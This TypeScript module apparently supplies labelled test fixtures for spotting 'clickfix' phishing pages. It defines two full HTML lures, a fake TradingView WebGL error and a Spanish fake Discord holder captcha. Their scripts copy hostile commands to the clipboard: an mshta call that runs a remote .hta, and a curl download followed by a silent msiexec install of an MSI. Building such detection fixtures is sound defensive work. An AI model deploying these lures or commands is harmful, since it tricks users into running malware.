import { htmlRoute, type Entry } from '../entry.js';
import { doc, mark } from '../parts/zw-kit.js';
import { jsRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  {
    id: 'zw-cf-tradingview-chart-fix-mshta',
    label: 'clickfix',
    kind: 'clickfix-fake-error',
    url: 'https://tradingview-pro-charts.com/chart/BTCUSDT',
    body: doc('BTCUSDT 104,221.3 ▲ 1.2% — TradingView', `
<div style="background:#131722;color:#d1d4dc;min-height:100vh">
<header style="padding:10px 16px;border-bottom:1px solid #2a2e39">TradingView · BINANCE:BTCUSDT · 1h</header>
<div style="height:420px;display:flex;align-items:center;justify-content:center;color:#555">[chart]</div>
<div id="err" style="position:fixed;inset:0;background:rgba(0,0,0,.7);display:flex;align-items:center;justify-content:center">
<div style="background:#1e222d;border-radius:10px;padding:26px;max-width:500px">
<h3 style="color:#f23645;margin-top:0">⚠ WebGL rendering error (code 0x80070643)</h3>
<p>Your graphics driver cannot display real-time charts. Apply the TradingView hotfix:</p>
<ol><li>Click <b>Copy fix</b></li><li>Open <b>Run</b> (Win + R)</li><li>Paste and press Enter</li></ol>
<button id="fix" style="background:#2962ff;color:#fff;border:0;padding:12px 22px;border-radius:6px">Copy fix</button></div></div></div>
<script>
document.getElementById("fix").onclick=async function(){
 await navigator.clipboard.writeText('mshta https://tv-hotfix.cdn-update.net/webgl/fix.hta  ::: TradingView WebGL Driver Hotfix');
 this.textContent="Copied ✔ — now press Win + R";
};
</script>`),
  },
  {
    id: 'zw-cf-discord-wallet-verify-es',
    label: 'clickfix',
    kind: 'clickfix-fake-captcha',
    url: 'https://collab-land-verify.net/es/',
    body: doc('Collab.Land — Verificación de holders', `
<div style="background:#0e0e10;color:#fff;min-height:100vh;padding:50px 16px;text-align:center">
<h2>Verificación de holders</h2><p>Para obtener el rol de holder en el servidor de Discord, complete la verificación anti-bot.</p>
<div id="v" style="display:inline-block;background:#1f1f23;padding:20px;border-radius:10px;cursor:pointer">☐ No soy un robot</div>
<div id="s" style="display:none;margin:20px auto;max-width:420px;text-align:left;background:#1f1f23;padding:18px;border-radius:10px">Pasos de verificación:<br>1. Pulse Windows + R<br>2. Pulse CTRL + V<br>3. Pulse Intro</div></div>
<script>
document.getElementById("v").onclick=function(){var x='cmd /c "curl -s -o %TEMP%\\\\v.msi https://collab-land-verify.net/dl/verifier.msi && msiexec /i %TEMP%\\\\v.msi /qn" REM Verificación completada';
navigator.clipboard.writeText(x);this.textContent="☑ Verificando…";document.getElementById("s").style.display="block"};
</script>`, { lang: 'es' }),
  },
];
